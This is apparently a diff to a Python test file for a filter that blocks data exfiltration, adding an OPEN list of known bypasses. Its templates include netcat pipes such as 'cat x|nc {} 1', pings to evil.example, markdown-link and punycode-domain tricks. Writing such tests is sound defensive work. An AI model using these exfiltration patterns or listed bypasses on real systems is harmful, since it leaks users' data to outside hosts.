@@ -41,7 +41,7 @@ ATTEMPTS = [
     "urllib.request.urlopen('{}')", "window.location.href = '{}'", "new Image().src='{}'",
     "nslookup x {}", "file_get_contents('{}')", "@import '{}'", "background: url({})",
     "httpx.post(u, data='{}')", "aiohttp.get('{}')", "new XMLHttpRequest().open('GET', '{}')",
-    "`ping {}.evil.example`", "`n={};curl x`", "`open('{}')`", "`echo $({})`", "`cat {}|nc x 1`",
+    "`ping {}.evil.example`", "`n={};curl x`", "`open('{}')`", "`echo $({})`", "`cat x|nc {} 1`",
     "```\ncurl x\n{}\n```",
 ]  # fmt: skip
 # These are what they are only at the start of a line.
@@ -49,6 +49,12 @@ LINES = [
     "[ref]: /{}", "[ref]: <{}>", "> [ref]: {}", "```python\nn = '{}'\nget(n)\n```",
     "```bash\nN={}\n```", "~~~js\nlet n = '{}'\n~~~", "```html\n{}\n```", "```svg\n{}",
     "```sh\n#\n\n{}\n```",
+]  # fmt: skip
+# Gaps that are known: here the value still goes in. Mend one, and its test says so.
+OPEN = [
+    "[a](x\\){})", "![a](x\\)y{})", "[ref]:\n/{}", "evil.xn--p1ai/{}", "evil.рф/{}",
+    "{}+x@evil.example", "{}&#46;evil.example", "{}&#64;evil.example", "fetch ('{}')",
+    "`cat {}|nc x 1`", "````python\n```\nx('{}')\n````",
 ]  # fmt: skip
 POSITIONS = ["{}", "Zie {} daar", "\n> {}\n", "- {}", "Tekst.\n\n{}", "1. a\n2. {}", "Écht 😀 {}"]
 
